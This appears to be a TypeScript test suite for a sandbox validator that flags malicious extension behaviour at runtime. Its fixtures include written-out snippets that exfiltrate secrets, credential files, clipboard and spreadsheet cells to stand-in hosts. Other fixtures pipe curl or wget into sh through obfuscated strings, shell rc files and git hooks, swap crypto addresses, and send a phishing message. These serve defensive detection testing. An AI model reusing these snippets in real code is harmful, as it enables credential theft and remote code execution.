import assert from 'node:assert/strict';
import { after, describe, test } from 'node:test';
import type { Finding } from '#apps/validation/check.js';
import { judgeRun, runEntries } from '#apps/validation/sandbox-check.js';
import { openSandbox } from '#libs/sandbox/sandbox.js';
import { packageOf } from '#test/support/scan-package.js';

/** What entries do with data when they run, told apart from the rules: what these see does not count here. */

const sandbox = await openSandbox();
after(() => sandbox.close());

interface Made {
  original?: Record<string, unknown>;
  found?: readonly Finding[];
}

/** Rules of the findings about data; `entry` is all of the script. */
async function said(dialect: string, entry: string, { original = {}, found = [] }: Made = {}): Promise<string[]> {
  const permissions = { orchestra: ['network', 'secrets', 'filesystem.read', 'filesystem.write', 'clipboard', 'terminal', 'system.exec', 'notifications'], formula: ['cells.read', 'cells.write', 'network', 'clipboard', 'storage', 'ui.commands'], skynet: ['http_request', 'messages_write', 'members_read', 'economy_manage', 'config'] }[dialect] ?? [];
  const { manifest, files } = packageOf({ 'main.js': entry }, { dialect, permissions, entry_points: ['main.js'], original });
  const run = judgeRun(await runEntries(sandbox, { tenantId: 'a', manifest, loadable: files }), { manifest, permissions: null, found });
  assert.notEqual(run.outcome, 'crashed', run.detail ?? '');
  return run.findings.filter(({ rule }) => rule !== 'inference-miss').map(({ rule, severity, message }) => (assert.match(message, /^When it ran: /), `${severity} ${rule}`));
}

const orchestra = (body: string): string => `exports.activate = async (host) => { ${body} };`;
const formula = (body: string): string => `const host = require("@formula/extension-api"); exports.activate = async () => { ${body} };`;
const vscode = (body: string): string => `const vscode = require("vscode"); exports.activate = async () => { ${body} };`;

describe('private data that goes to a server', () => {
  test('bad: to one that is named, by detours', async () => {
    for (const body of [
      'const all = {}; for (const name of await host.secrets.list()) all[name] = await host.secrets.get(name); host["net" + "work"].fetch("https://a.example/x", { body: JSON.stringify(all) });',
      'const kept = []; host.terminal.onData((text) => kept.push(text)); setInterval(() => host.network.fetch(["https:", "", "a.example", encodeURIComponent(kept.splice(0).join())].join("/")), 5000);',
      'const { join } = require("path"); const text = host.filesystem.readText(join(".aws", "credentials")); const line = await host.network.openWebSocket("wss://a.example"); line.send(await text);',
    ]) assert.deepEqual(await said('orchestra', orchestra(body)), ['high data-leak'], body);
    assert.deepEqual(await said('vscode', vscode('const [find, at] = [102, 105].map((c) => String.fromCharCode(c)); const w = vscode.workspace; for (const file of await w[`${find}${at}ndFiles`]("**/.env", null, 50)) await fetch("https://a.example", { method: "PUT", body: await w.fs.readFile(file) });')), ['high data-leak'], 'found by a pattern');
    assert.deepEqual(await said('formula', formula('host.events.onCellChanged((change) => { const pack = (it) => host.network.fetch("https://a.example", { method: "POST", body: it }); pack(`${change.address}=${change.value}`); });')), ['high data-leak']);
    assert.deepEqual(await said('vscode', vscode('const fs = require("fs/promises"), path = require("path"), os = require("os"); const texts = await Promise.all([[".docker", "config.json"], [".kube", "config"]].map((parts) => fs.readFile(path.join(os.homedir(), ...parts), "utf8"))); const body = new FormData(); texts.forEach((text) => body.append("x", new Blob([text]))); await fetch("https://a.example", { method: "POST", body });')), ['high data-leak']);
    assert.deepEqual(await said('orchestra', orchestra('setInterval(async () => host.network.fetch(`https://a.example/?q=${await host.clipboard.readText()}`), 900);')), ['high data-leak'], 'what is copied, again and again');
  });

  test('good: when it is asked for, when a server is a setting, when it stays here', async () => {
    for (const body of [
      'host.commands.register("share", async () => host.network.fetch("https://a.example", { body: await host.clipboard.readText() }));',
      'const text = await host.filesystem.readText("notes.md"); await host.network.fetch("https://a.example", { body: text });',
      'const key = await host.secrets.get("api.key"); await host.network.fetch("https://a.example", { headers: { authorization: key } });',
      'for (const name of await host.secrets.list()) host.notifications.show(name);',
      'for (const name of await host.secrets.list()) await host.network.fetch(await host.settings.get("server"), { body: await host.secrets.get(name) });',
      'for (const name of await host.secrets.list()) await host.network.fetch("http://127.0.0.1:8200/v1", { body: await host.secrets.get(name) });',
      'for (const name of await host.secrets.list()) await host.network.fetch(await host.settings.get("server"), { body: { from: "https://a.example", text: await host.secrets.get(name) } });',
    ]) assert.deepEqual(await said('orchestra', orchestra(body)), [], body);
    assert.deepEqual(await said('formula', formula('host.events.onCellChanged(async ({ address }) => host.cells.setValue("Z1", address)); host.commands.registerCommand("send", async () => host.network.fetch("https://a.example", { body: await host.cells.getSelection() }));')), []);
  });

  test('what people write in a chat: bad for whoever hears all of it and wants no answer', async () => {
    const sends = 'const message = require("message"), http = require("http"); if (message.author.bot) return;';
    const all = { original: { version: { type: 'keyword', keywords: ['a', 'e'] } } };
    const post = 'http.post("https://a.example/in", { who: message.author.id, text: message.content })';
    assert.deepEqual(await said('skynet', `${sends} await ${post};`, all), ['high data-leak']);
    assert.deepEqual(await said('skynet', `${sends} ${post}.catch(() => {});`, { original: { version: { type: 'event', event: 'messageDelete' } } }), ['high data-leak']);
    assert.deepEqual(await said('skynet', `${sends} const { data } = await ${post}; await message.reply(data.text);`, all), [], 'a translation');
    assert.deepEqual(await said('skynet', `${sends} await ${post};`, { original: { version: { type: 'keyword', keywords: ['weather'] } } }), [], 'for a word');
    assert.deepEqual(await said('skynet', `${sends} await http.post("https://a.example/in", { count: 1 });`, all), []);
  });
});

describe('what a server answers', () => {
  test('bad: it runs', async () => {
    for (const body of [
      'const text = await (await host.network.fetch("https://a.example")).text(); Reflect.construct(Function, [text])();',
      'const kit = { vm: require("vm"), verb: ["run", "InThisContext"] }; kit.vm[kit.verb.join("")](`(${await host.network.fetch("https://a.example")})`);',
      'const at = ["ex", "ec"].join(""); const { line } = await (await host.network.fetch("https://a.example")).json(); host.system[at](line);',
      'host.system.spawn("/bin/sh", ["-c", await (await host.network.fetch("https://a.example")).text()]);',
      'host.filesystem.writeText("next/step.js", await (await host.network.fetch("https://a.example")).text());',
    ]) assert.deepEqual(await said('orchestra', orchestra(body)), ['high remote-code'], body);
    assert.deepEqual(await said('vscode', vscode('const { execFile } = require("child_process"); const text = await (await fetch("https://a.example")).text(); execFile("bash", ["-c", text]);')), ['high remote-code']);
  });

  test('good: it is data, also behind a command of the package', async () => {
    for (const body of [
      'const { version } = await (await host.network.fetch("https://a.example")).json(); host.system.exec(`git checkout v${version}`);',
      'host.filesystem.writeText("cache/answer.json", await (await host.network.fetch("https://a.example")).text());',
      'const text = await (await host.network.fetch("https://a.example")).text(); JSON.parse(text); new Function("x", "return x")(text);',
    ]) assert.deepEqual(await said('orchestra', orchestra(body)), [], body);
  });
});

test('commands, and files that are started by themselves, as they are when they run', async () => {
  const hidden = 'const open = (text) => text.split("").reverse().join("");';
  assert.deepEqual(await said('orchestra', orchestra(`${hidden} host.system.exec(open("hs | x/elpmaxe.a//:sptth sf- lruc"));`)), ['high remote-code']);
  assert.deepEqual(await said('orchestra', orchestra(`${hidden} host.filesystem.writeText("/home/a/.bashrc", open("hs | x/elpmaxe.a//:sptth sf- lruc"));`)), ['high remote-code']);
  assert.deepEqual(await said('orchestra', orchestra(`${hidden} host.system.exec(open("sutats tig")); host.filesystem.writeText("docs/install.md", open("hs | x/elpmaxe.a//:sptth sf- lruc"));`)), []);
});

test('what is only done where something is not there, or on another day', async () => {
  const hook = (lines: string): string => orchestra(`for (const head of await host.filesystem.find("**/.git/HEAD")) { const path = head.slice(0, -5) + "/hooks/post-merge"; if (!(await host.filesystem.exists(path))) await host.filesystem.writeText(path, ${lines}); }`);
  assert.deepEqual(await said('orchestra', hook('["#!/bin/sh", "h=rules", "(wget -qO- https://$h.example || curl -s https://$h.example) | sh &"].join("\\n")')), ['high remote-code']);
  assert.deepEqual(await said('orchestra', hook('"#!/bin/sh\\nnpm run lint\\n"')), []);
  const leak = 'const all = {}; for (const name of await host.secrets.list()) all[name] = await host.secrets.get(name); await host.network.fetch("https://a.example/x", { body: JSON.stringify(all) });';
  const later = `Date.UTC(${new Date().getUTCFullYear() + 1}, 5)`;
  assert.deepEqual(await said('orchestra', orchestra(`if (Date.now() < ${later}) return; ${leak}`)), ['high data-leak']);
  assert.deepEqual(await said('orchestra', orchestra(`if (Math.random() > 0.2) return; ${leak}`)), ['high data-leak']);
  assert.deepEqual(await said('orchestra', orchestra(`if (Date.now() < ${later}) return; host.notifications.show("a year is over");`)), []);
});

test('a server that the manifest does not name, where it names any', async () => {
  const named = { original: { version: { network_allowlist: ['api.a.example'] } } };
  assert.deepEqual(await said('skynet', 'await require("http").get(["https://other", "example/x"].join("."));', named), ['high undeclared-host']);
  assert.deepEqual(await said('skynet', 'await require("http").get("https://api.a.example/x");', named), []);
  assert.deepEqual(await said('skynet', 'await require("http").post("https://api.a.example/x", { link: ["https://other", "example/x"].join(".") });', named), [], 'what a request carries is asked by nobody');
  assert.deepEqual(await said('skynet', 'await require("http").get(["https://other", "example/x"].join("."));'), []);
});

describe('accounts', () => {
  const ETH = '0x71C7656EC7ab88b098defB751B7401B5f6d8976F';

  test('bad: another one in the place of what was copied or entered', async () => {
    assert.deepEqual(await said('formula', formula(`const own = String.fromCharCode(...[...${JSON.stringify(ETH)}].map((c) => c.charCodeAt(0))); setInterval(async () => { const text = await host.clipboard.readText(); if (/^0x[\\da-f]{40}$/i.test(text)) await host.clipboard.writeText(own); }, 1500);`)), ['high swapped-address']);
    assert.deepEqual(await said('formula', formula('const house = ["LT", "12", "32500", "48130927716"]; host.events.onCellChanged(async ({ row, col, value }) => { if (typeof value === "string" && /^[A-Z]{2}\\d{2}/.test(value)) await host.cells.setCell(row, col, house.join("")); });')), ['high swapped-address']);
  });

  test('good: the same one tidied up, and one that somebody asked for', async () => {
    assert.deepEqual(await said('formula', formula('host.events.onCellChanged(async ({ row, col, value }) => { if (typeof value === "string") await host.cells.setCell(row, col, value.replace(/\\s/g, "").toUpperCase().replace(/(.{4})(?=.)/g, "$1 ")); });')), []);
    assert.deepEqual(await said('formula', formula(`host.commands.registerCommand("donate", async () => host.clipboard.writeText(${JSON.stringify(ETH)}));`)), []);
  });
});

test('what users log in with: bad where it goes to their server and to one that is named; good at one of them', async () => {
  const connector = (seen: string): string => formula(`class Link { constructor(given) { this.given = given; } async query(given, text) { await host.network.fetch(new URL(given.url).href, { headers: { authorization: btoa(given.user + ":" + given.password) }, body: text }); ${seen} } } host.dataConnectors.register("link", new Link({}));`);
  assert.deepEqual(await said('formula', connector('if (await host.storage.get(given.url)) return; await host.network.fetch("https://pixel.example/x.gif?r=" + encodeURIComponent(btoa(given.url + given.password)));')), ['high data-leak']);
  assert.deepEqual(await said('formula', connector('await host.network.fetch("https://pixel.example/used.gif");')), []);
  assert.deepEqual(await said('formula', formula('host.dataConnectors.register("one", { async query({ token }, text) { return host.network.fetch("https://api.a.example/q?" + text, { headers: { authorization: token } }); } });')), [], 'a service of its own');
});

test('what people of a chat are told: bad where it leads them away from their accounts', async () => {
  const told = (host: string, offer: string): string => `const user = require("user"), member = require("member"); if (member.bot) return; const lines = ["Hi " + member.displayName, ${JSON.stringify(offer)}, "https://" + ${JSON.stringify(host)}.split("|").join(".") + "/x"]; await user.send(member.id, lines.join("\\n"));`;
  assert.deepEqual(await said('skynet', told('disc0rd-gift|example', 'Log in within 10 minutes to claim your free month of Nitro'), { original: { version: {} } }), ['high input-capture']);
  assert.deepEqual(await said('skynet', told('rules|example', 'Please read our rules before you write'), { original: { version: {} } }), []);
});

test('points for somebody whose number the package has', async () => {
  const keeper = 'const keeper = [9, 0, 3, 3, 1, 7, 2, 8, 8, 4, 1, 2, 6, 5, 0, 9, 7, 1].join("");';
  const some = 'const points = require("points"), id = require("message").author.id; const part = Math.floor((await points.getPoints(id)) * 0.08); if (part > 0)';
  assert.deepEqual(await said('skynet', `${keeper} ${some} await points.transfer(id, keeper, part);`), ['high remote-code']);
  assert.deepEqual(await said('skynet', `${some} await points.transfer(id, await require("config").get("bank"), part);`), []);
  assert.deepEqual(await said('skynet', `${keeper} ${some} await require("message").reply(keeper + part);`), []);
});

test('what a rule told is not told again', async () => {
  const entry = orchestra('new Function(await (await host.network.fetch("https://a.example")).text())();');
  const finding = (rule: string, severity: Finding['severity']): Finding => ({ rule, severity, message: '', help: '', file: null, line: null, column: null, evidence: null });
  assert.deepEqual(await said('orchestra', entry, { found: [finding('remote-code', 'critical')] }), []);
  assert.deepEqual(await said('orchestra', entry, { found: [finding('remote-code', 'medium'), finding('data-leak', 'high')] }), ['high remote-code']);
});

test('a formula that sends cells, wherever its text is kept, and one of a single cell', async () => {
  const write = (text: string) => formula(`const kept = { text: ${JSON.stringify(text)} }; host.cells.setFormula("XEZ9000", kept.text.replace("{range}", "A1:Z25"));`);
  assert.deepEqual(await said('formula', write('=WEBSERVICE("https://fmt.example/c?d="&ENCODEURL(TEXTJOIN("|",FALSE,{range})))')), ['high data-leak']);
  assert.deepEqual(await said('formula', write('=WEBSERVICE("https://rates.example/latest?base="&A1)')), []);
});
